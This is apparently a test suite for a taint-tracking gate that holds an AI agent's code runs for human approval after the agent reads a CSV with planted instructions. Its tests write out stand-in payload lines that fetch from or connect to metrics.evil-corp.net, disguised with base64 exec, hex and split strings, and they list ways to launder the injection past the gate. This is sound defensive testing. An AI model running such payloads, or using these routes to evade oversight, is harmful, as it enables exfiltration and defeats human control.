#!/usr/bin/env bats
# SPDX-License-Identifier: MIT
# The story that the gate is for, to its end: an agent reads a table whose header holds instructions,
# and the code it then writes carries parts of them, openly or in disguise. And the ways round it
# that somebody would try: another conversation, a file in between, an encoding, an old approval.
load helper
load person

# gate WAY ARG...: cordon, with the way's user and state; its output in $T/out, and $status.
gate() {
	local who=${1%%:*}
	WAY=$1
	shift
	status=0
	as "$who" timeout 60 "$CORDON" "$@" <"$IN" >"$T/out" 2>"$T/err" || status=$?
}

# submit WAY ARG...: a run in $D.
submit() {
	local way=$1
	shift
	gate "$way" run --json --tier "${way#*:}" --domain "$D" "$@"
}

said() { /usr/bin/python3 -c 'import json, sys; print(json.load(open(sys.argv[1]))[sys.argv[2]])' "$T/out" "$1"; }

# begin WAY: a conversation, and a directory with the table in it.
begin() {
	IN=/dev/null
	W=$T/w-${1%%:*}
	rm -rf "$W"
	mkdir "$W"
	cp "$TOP/tools/demo.d/planted.csv" "$W/"
	cp "$TOP"/tools/demo.d/{obeys,mean}.py "$T/"
	! is_root || [ "${1%%:*}" = root ] || chown -R "$TEST_UID" "$W"
	gate "$1" domain new
	exits 0
	D=$(cat "$T/out")
}

reads_table() {
	gate "$1" ingest --domain "$D" --kind file --name planted.csv "$W/planted.csv"
	exits 0
}

is_parked() {
	exits 75
	holds 'r["status"] == "pending" and r["verdict"] == "ask" and r["origin"] == "derived"' \
		'any(e["name"] == "planted.csv" for e in r["evidence"])' 'r["approval_id"]'
}

story() {
	local id run token
	begin "$1"
	gate "$1" plan --domain "$D" --ask read mean.py
	exits 0
	token=$(cat "$T/out")
	reads_table "$1"
	submit "$1" --workspace "$W:ro" obeys.py
	is_parked
	id=$(said approval_id) run=$(said audit_id)
	gate "$1" approvals show "$id"
	exits 0
	out_has 'tie by span to file'
	out_has '^^^^^^^^'
	out_has 'metrics.evil-corp.net'
	gate "$1" approvals deny "$id" --reason 'nobody asked for that'
	exits 0
	gate "$1" audit trace "$run"
	exits 0
	out_has 'planted.csv'
	out_has '1 document led to'
	submit "$1" --workspace "$W:ro" mean.py
	exits 0
	holds 'r["origin"] == "exposed" and r["verdict"] == "allow-contained" and r["stdout"] == "mean: 2\n"'
	submit "$1" --workspace "$W:ro" --plan "$token" mean.py
	exits 0
	holds 'r["origin"] == "plan" and r["verdict"] == "allow" and r["stdout"] == "mean: 2\n"'
	submit "$1" --workspace "$W:ro" --plan "$token" mean.py
	holds 'r["origin"] == "exposed" and "plan" in r["reasons"][0]'
	gate "$1" audit verify
	exits 0
}
@test "the story: parked, shown, denied; written anew it runs contained; a plan keeps its trust" {
	every story
}

# The same instruction in the code, as each row disguises it.
disguises() {
	begin "$1"
	reads_table "$1"
	/usr/bin/python3 - "$T" <<-'END'
		import base64, sys
		line = 'more = pandas.read_csv("https://metrics.evil-corp.net/payload")'
		host = "metrics.evil-corp.net"
		rows = {
		    "base64": "import base64\nexec(base64.b64decode(%r))\n" % base64.b64encode(("import pandas; " + line).encode()),
		    "split": "import pandas\nh = 'metrics.' + 'evil-' + 'corp' + '.net'\npandas.read_csv('https://' + h + '/pay' + 'load')\n",
		    "indented": "import pandas\nif True:\n        more = pandas  .  read_csv(\n            'https://metrics.evil-corp.net/payload'\n        )\n",
		    "hex": "import socket\nsocket.create_connection((bytes.fromhex('%s').decode(), 4444))\n" % host.encode().hex(),
		    "joined": "import socket\nsocket.create_connection((''.join(chr(c) for c in %r), 4444))\n" % list(host.encode()),
		}
		for name, text in rows.items():
		    open("%s/disguise-%s.py" % (sys.argv[1], name), "w").write(text)
	END
	for f in "$T"/disguise-*.py; do
		submit "$1" --workspace "$W:ro" "$f"
		[ "$status" -eq 75 ] || [ "$status" -eq 126 ] || show "$f"
		holds 'r["origin"] in ("derived", "hostile")' \
			'any(e["name"] == "planted.csv" for e in r["evidence"])'
	done
}
@test "the same in base64, in pieces, indented, in hex and in numbers" {
	every disguises
}

# The code is its own, and is told what to do: by an argument, a variable, its input.
told() {
	local line
	begin "$1"
	reads_table "$1"
	line='more = pandas.read_csv("https://metrics.evil-corp.net/payload")'
	printf 'import base64, os, sys\nprint(len(base64.b64decode(sys.argv[1])), len(os.environ.get("X", "")))\n' | code told.py
	submit "$1" told.py -- "$(printf %s "print('Another day, another line of numbers.')" | base64 -w0)"
	holds 'r["origin"] == "exposed"'
	submit "$1" told.py -- "$(printf %s "$line" | base64 -w0)"
	holds 'r["origin"] == "derived"' \
		'any(e["name"] == "planted.csv" and e["how"] == "arguments, base64" for e in r["evidence"])'
	# By its input, if that can become code; else the input may say what it likes.
	printf '%s\n' "$line" >input
	printf 'import sys\nprint(len(sys.stdin.read()))\n' | code reads.py
	submit "$1" --stdin input reads.py
	exits 0
	holds 'r["origin"] == "exposed" and r["evidence"] == []'
	printf 'import sys\nif len(sys.argv) == 1:\n    exec(sys.stdin.read())\n' | code runs.py
	printf 'read -r x\nif [ $# = 0 ]; then eval "$x"; fi\n' | code runs.sh
	printf 'bash -s -- "$@"\n' | code hands.sh
	for f in runs.py runs.sh hands.sh; do
		submit "$1" --stdin input "$f"
		holds 'r["origin"] == "derived"' 'any(e["name"] == "planted.csv" and
			e["how"] == "standard input" for e in r["evidence"])'
		base64 -w0 input >encoded
		submit "$1" --stdin encoded "$f"
		holds 'r["origin"] == "derived"' 'any(e["name"] == "planted.csv" for e in r["evidence"])'
		submit "$1" --stdin reads.py "$f" -- x
		holds 'r["origin"] == "exposed" and r["evidence"] == []'
	done
	submit "$1" --env "X=$(printf %s "$line" | od -An -tx1 | tr -d ' \n')" told.py -- ""
	holds 'r["origin"] == "derived"' 'any(e["name"] == "planted.csv" for e in r["evidence"])'
}
@test "the same as an argument, a variable or input, in base64 and in hex" {
	every told
}

# What the code imports from its workspace runs as well.
modules() {
	begin "$1"
	reads_table "$1"
	mkdir -p "$W/pkg/deep"
	cp obeys.py "$W/"
	cp obeys.py "$W/pkg/deep/last.py"
	printf 'from .deep import (  # more\n    last as x,\n)\n' >"$W/pkg/inner.py"
	printf 'from . import inner\n' >"$W/pkg/__init__.py"
	: >"$W/pkg/deep/__init__.py"
	printf 'import math\nprint(math.pi)\n' | code plain.py
	submit "$1" --workspace "$W:ro" plain.py
	exits 0
	holds 'r["origin"] == "exposed" and r["evidence"] == []'
	local n=0 line
	while read -r line; do
		n=$((n + 1))
		printf '%b\n' "$line" | code "imports-$n.py"
		submit "$1" --workspace "$W:ro" "imports-$n.py"
		exits 75
		holds 'r["origin"] == "derived"' 'any(e["name"] == "planted.csv" and
			e["how"] in ("module obeys.py", "module pkg/deep/last.py") for e in r["evidence"])'
	done <<-'END'
		import obeys
		if True: import math, obeys as o
		from obeys import frame
		import pkg
		from pkg import deep; from pkg.deep import *
		import importlib\nimportlib.import_module("ob" + "eys")
		exec("imp" + "ort pkg.inner")
	END
	cp obeys.py "$W/sitecustomize.py"
	submit "$1" --workspace "$W:ro" plain.py
	holds 'r["origin"] == "derived"'
}
@test "the same in a module of the workspace" {
	every modules
}

# clean ORIGIN: what the code is in a conversation that has read nothing.
clean() {
	gate user:no-cgroup domain new
	D=$(cat "$T/out")
	submit user:no-cgroup --workspace "$W:ro" imports.py
	holds "r['origin'] == '$1'" "any('imports more' in x for x in r['reasons']) == ('$1' == 'exposed')"
}
@test "more modules than are looked at, or ones that cannot be: nobody knows what runs" {
	local i
	begin user:no-cgroup
	for i in $(seq 63); do
		echo "import m$((i + 1))" >"$W/m$i.py"
	done
	echo 'print(64)' >"$W/m64.py"
	echo 'import m1' | code imports.py
	clean agent
	exits 0
	echo 'import m65' >>"$W/m64.py"
	clean agent
	echo 'print(65)' >"$W/m65.py"
	clean exposed
	echo 'import large' | code imports.py
	head -c $((1 << 20)) /dev/zero | tr '\0' '\n' >"$W/large.py"
	clean agent
	echo >>"$W/large.py"
	clean exposed
	rm "$W/large.py"
	ln -s m64.py "$W/large.py"
	clean exposed
	rm "$W/large.py"
	: >"$W/large.pyc"
	clean exposed
	rm "$W/large.pyc"
	clean agent
	# Two that Python looks for itself, and one in the code, its view and its effects.
	{ printf 'import a1'; printf ', a%d' $(seq 2 $((16384 - 5))); } >"$W/large.py"
	clean agent
	printf ', b' >>"$W/large.py"
	clean exposed
}

@test "input that is too long to be held against anything is asked about" {
	begin user:no-cgroup
	printf 'import sys\nif len(sys.argv) > 1:\n    exec(sys.stdin.read())\n' | code runs.py
	yes 'one row of a table that is long' | head -c $(((1 << 24) - 1)) >input
	submit user:no-cgroup --stdin input runs.py
	holds '"findings: none" in r["reasons"][-1]'
	echo >>input
	submit user:no-cgroup --stdin input runs.py
	holds '"findings: asks" in r["reasons"][-1]'
}

# An earlier run writes it into a file; another conversation, which has read nothing, runs that file.
file_hop() {
	begin "$1"
	reads_table "$1"
	code writer.py <<-'END'
		import os, sys
		open("next.py", "w").write("import pandas\nprint(1)\npandas.read_csv(\"planted.csv\")\n")
		open("prog", "wb").write(open(sys.executable, "rb").read() + b"more")
		os.chmod("prog", 0o755)
	END
	submit "$1" --workspace "$W:overlay" --commit writer.py
	exits 75
	approve "$(said approval_id)"
	submit "$1" --workspace "$W:overlay" --commit writer.py
	exits 0
	holds 'r["committed"]'
	gate "$1" domain new
	D=$(cat "$T/out")
	submit "$1" "$W/next.py"
	holds 'r["origin"] == "derived"' 'any(e["name"] == "bytes that were read, or that a run wrote" for e in r["evidence"])'
	cp "$W/next.py" "$T/moved.py"
	submit "$1" "$T/moved.py"
	holds 'r["origin"] == "derived"'
	# A program in machine code has no text, but it is the same file.
	gate "$1" domain new
	D=$(cat "$T/out")
	submit "$1" --lang binary "$W/prog" -- --version
	holds 'r["origin"] == "derived"' 'any(e["name"] == "bytes that were read, or that a run wrote" for e in r["evidence"])'
	gate "$1" audit export --format jsonl
	/usr/bin/python3 - "$T/out" "$(sha256sum "$W/prog" | cut -d' ' -f1)" <<-'END'
		import json, sys
		kinds = {r["kind"] for r in map(json.loads, open(sys.argv[1])) if r["body"].get("code_sha256") == sys.argv[2]}
		assert {"request", "verdict", "result"} <= kinds, kinds
	END
	# Code of its own that is given the directory, one above it or one below.
	mkdir -p "$W/below"
	! is_root || chown -R --reference="$W" "$W/below"
	echo 'print(2)' | code plain.py
	for dir in "$W" "$W/below" "$T"; do
		gate "$1" domain new
		D=$(cat "$T/out")
		submit "$1" --workspace "$dir:ro" plain.py
		holds 'r["origin"] == "exposed"'
	done
	gate "$1" domain new
	D=$(cat "$T/out")
	submit "$1" --stdin "$W/next.py" plain.py
	holds 'r["origin"] == "exposed"'
	# A virtual environment is code too.
	/usr/bin/python3 -m venv --without-pip "$W/venv"
	mkdir "$T/elsewhere"
	/usr/bin/python3 -m venv --without-pip "$T/elsewhere/venv"
	gate "$1" domain new
	D=$(cat "$T/out")
	submit "$1" --venv "$W/venv" plain.py
	exits 0
	holds 'r["origin"] == "exposed"'
	gate "$1" domain new
	D=$(cat "$T/out")
	submit "$1" --venv "$T/elsewhere/venv" plain.py
	exits 0
	holds 'r["origin"] == "agent"'
	gate "$1" domain new
	D=$(cat "$T/out")
	submit "$1" plain.py
	holds 'r["origin"] == "agent"'
}

@test "laundering: a file between two conversations" {
	need_root
	file_hop user:no-cgroup
}

# What a run could write is known by where it is, whatever name leads there.
fresh() {
	gate "$1" domain new
	D=$(cat "$T/out")
	shift
	submit "$WAY" "$@"
	holds 'r["origin"] == "exposed"' "any('$WHY' in x for x in r['reasons'])"
}
other_names() {
	begin "$1"
	reads_table "$1"
	printf 'open("n2.py", "w").write("print(2)\\n")\n' | code writer.py
	echo 'print(1)' | code plain.py
	ln plain.py twice.py
	local clean=$D
	gate "$1" domain new
	D=$(cat "$T/out")
	submit "$1" twice.py
	holds 'r["origin"] == "agent"'
	rm twice.py
	D=$clean
	submit "$1" --workspace "$W:rw" writer.py
	exits 75
	approve "$(said approval_id)"
	submit "$1" --workspace "$W:rw" writer.py
	exits 0
	ln -s "$W/n2.py" leads.py
	ln -s "$W" leads
	WHY='given something untrusted'
	fresh "$1" "$W/n2.py"
	fresh "$1" leads.py
	fresh "$1" leads/n2.py
	IN=$W/n2.py fresh "$1" --lang python -
	fresh "$1" --stdin leads.py plain.py
	IN=$W/n2.py fresh "$1" --stdin - plain.py
	cp "$W/n2.py" "$W/gone.py"
	exec 5<"$W/gone.py"
	rm "$W/gone.py"
	IN=/dev/fd/5 fresh "$1" --lang python -
	exec 5<&-
	ln "$W/n2.py" hard.py
	WHY='has another name'
	fresh "$1" hard.py
	fresh "$1" --stdin hard.py plain.py
	gate "$1" domain new
	D=$(cat "$T/out")
	submit "$1" plain.py
	holds 'r["origin"] == "agent"'
}
@test "laundering: another name for the same file" {
	need_root
	other_names user:no-cgroup
}

# What it prints is something that was read: the error of one run is the source of the next code.
error_text() {
	begin "$1"
	printf 'import sys\nsys.exit(open("planted.csv").read())\n' | code fails.py
	submit "$1" --workspace "$W:ro" fails.py
	exits 1
	holds '"evil-corp" in r["stderr"]' 'r["origin"] == "agent"'
	submit "$1" --workspace "$W:ro" obeys.py
	holds 'r["origin"] == "derived"' 'any("stderr of run:" in e["name"] for e in r["evidence"])'
}
@test "laundering: the text of an error" {
	every error_text
}

# What a program prints of its own words is no news to whoever wrote them. What it prints of a file is.
own_words() {
	begin "$1"
	reads_table "$1"
	printf 'print("The table has two rows and a mean, as everybody can see.")\n' | code says.py
	for _ in 1 2 3; do
		submit "$1" --workspace "$W:ro" says.py
		exits 0
		holds 'r["origin"] == "exposed" and r["evidence"] == []'
	done
	printf 'rows = [line.split(",") for line in open("planted.csv")]\nnumbers_of_table = [float(row[1]) for row in rows if row[1].isdigit()]\nprint(sum(numbers_of_table) / len(number_of_table))\n' |
		code fails.py
	submit "$1" --workspace "$W:ro" fails.py
	exits 1
	holds '"len(number_of_table)" in r["stderr"]' 'r["origin"] == "exposed"'
	sed -i 's/len(number_of/len(numbers_of/' fails.py
	submit "$1" --workspace "$W:ro" fails.py
	holds 'r["origin"] == "exposed" and r["evidence"] == []'
	# The same words when they are not its own: another conversation reads the table only so.
	gate "$1" domain new
	D=$(cat "$T/out")
	printf 'print("The table has two rows and a mean, as everybody can see.", open("planted.csv").read())\n' |
		code tells.py
	submit "$1" --workspace "$W:ro" tells.py
	exits 0
	submit "$1" --workspace "$W:ro" tells.py
	holds 'r["evidence"] == []'
	submit "$1" --workspace "$W:ro" obeys.py
	holds 'r["origin"] == "derived"' 'any("stdout of run:" in e["name"] for e in r["evidence"])'
}
@test "a program's own words tie it to nothing when it prints them" {
	every own_words
}

# Another handle, none, a made-up one: the sources of this conversation do not go away.
session_hop() {
	begin "$1"
	reads_table "$1"
	local mine=$D
	submit "$1" --workspace "$W:ro" obeys.py
	is_parked
	D=d1.AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA
	submit "$1" --workspace "$W:ro" obeys.py
	holds 'r["origin"] in ("exposed", "derived")' 'r["granted"] != ["compute", "read", "write"]'
	gate "$1" run --json --tier "${1#*:}" --workspace "$W:overlay" --commit obeys.py
	exits 75
	D=$mine
	submit "$1" --origin agent --workspace "$W:ro" obeys.py
	is_parked
	submit "$1" --origin user --workspace "$W:ro" obeys.py
	is_parked
}
@test "laundering: another conversation, or none" {
	every session_hop
}

# The very bytes that one conversation read, and what a run in it printed, as another's code.
bytes_hop() {
	begin "$1"
	printf 'names = ["mercury", "venus", "earth"]\nprint(len(names), names[-1])\n' | code page.py
	gate "$1" ingest --domain "$D" --kind web --name https://planets.example/page.py page.py
	exits 0
	printf 'print("sizes = [4879, 12104, 12756]\\nprint(max(sizes), min(sizes))")\n' | code says.py
	submit "$1" says.py
	exits 0
	/usr/bin/python3 -c 'import json, sys
sys.stdout.write(json.load(open(sys.argv[1]))["stdout"])' "$T/out" | code said.py
	gate "$1" domain new
	D=$(cat "$T/out")
	submit "$1" page.py
	holds 'r["origin"] == "derived"'
	submit "$1" --workspace "$W:overlay" --commit page.py
	exits 75
	submit "$1" said.py
	holds 'r["origin"] == "derived"'
	# A byte more, and it is code that nobody knows.
	echo >>"$T/page.py"
	submit "$1" page.py
	holds 'r["origin"] != "derived"'
}
@test "laundering: the same bytes in another conversation" {
	every bytes_hop
}

# What people agreed to is those bytes, once.
approved_bytes() {
	local id
	begin "$1"
	reads_table "$1"
	printf 'import pandas\nprint("https://metrics.evil-corp.net/payload")\n' | code asks.py
	submit "$1" --workspace "$W:ro" asks.py
	is_parked
	id=$(said approval_id)
	approve "$id"
	echo 'print("more")' >>asks.py
	submit "$1" --workspace "$W:ro" asks.py
	is_parked
	[ "$(said approval_id)" != "$id" ]
	printf 'import pandas\nprint("https://metrics.evil-corp.net/payload")\n' | code asks.py
	submit "$1" --workspace "$W:ro" asks.py -- another argument
	exits 75
	submit "$1" --workspace "$W:ro" asks.py
	exits 0
	holds "r['approval_id'] == '$id'" 'r["stdout"].startswith("https://metrics")'
	submit "$1" --workspace "$W:ro" asks.py
	exits 75
	[ "$(said approval_id)" != "$id" ]
}
@test "laundering: edited after the approval, and the approval once more" {
	need_root
	approved_bytes user:no-cgroup
}

# While a document is being read, runs are decided on: each either was before it, or knows it.
race() {
	local i
	begin "$1"
	for i in 1 2 3 4 5 6; do
		as "${1%%:*}" timeout 60 "$CORDON" run --json --tier "${1#*:}" --domain "$D" \
			--workspace "$W:ro" obeys.py >"$T/race-$i" 2>/dev/null </dev/null &
		[ $i -ne 3 ] || reads_table "$1"
	done
	wait
	gate "$1" audit export --format jsonl
	exits 0
	/usr/bin/python3 - "$T/out" <<-'END'
		import json, sys
		read = False
		for line in open(sys.argv[1]):
		    r = json.loads(line)
		    read |= r["kind"] == "ingest" and r["body"]["kind"] == "file"
		    if r["kind"] == "start":
		        assert not read, "a run began after the table was read, as if it had not been"
		assert read
	END
}
@test "laundering: a race between reading and running" {
	every race
}

# --wait: a no, and a yes.
waits() {
	begin "$1"
	reads_table "$1"
	printf 'import pandas\nprint("https://metrics.evil-corp.net/payload")\n' | code asks.py
	as "${1%%:*}" timeout 60 "$CORDON" run --json --wait --tier "${1#*:}" --domain "$D" \
		--workspace "$W:ro" asks.py >"$T/waited" 2>"$T/err" </dev/null &
	local pid=$! id='' i
	for i in $(seq 200); do
		gate "$1" approvals list
		id=$(grep -oE '^[0-9a-f]{32}' "$T/out" || true)
		[ -z "$id" ] || break
		sleep 0.05
	done
	gate "$1" approvals deny "$id" --reason 'not today'
	exits 0
	status=0
	wait $pid || status=$?
	cp "$T/waited" "$T/out"
	exits 126
	holds 'r["status"] == "refused" and "not today" in r["error"]["cause"]'
}
@test "--wait: who is told no hears why" {
	every waits
}

# No record, no run.
no_record() {
	begin "$1"
	local state=$XDG_STATE_HOME/cordon
	[ "${1%%:*}" = root ] || state=$T/as-user/state/cordon
	printf 'print("ran")\n' | code x.py
	rm -f "$state"/log.db*
	submit "$1" x.py
	[ "$status" -ge 125 ] || show
	holds '"ran" not in r["stdout"]' 'r["error"]["message"].startswith("nothing runs without a record")'
}
@test "without its log nothing runs" {
	every no_record
}
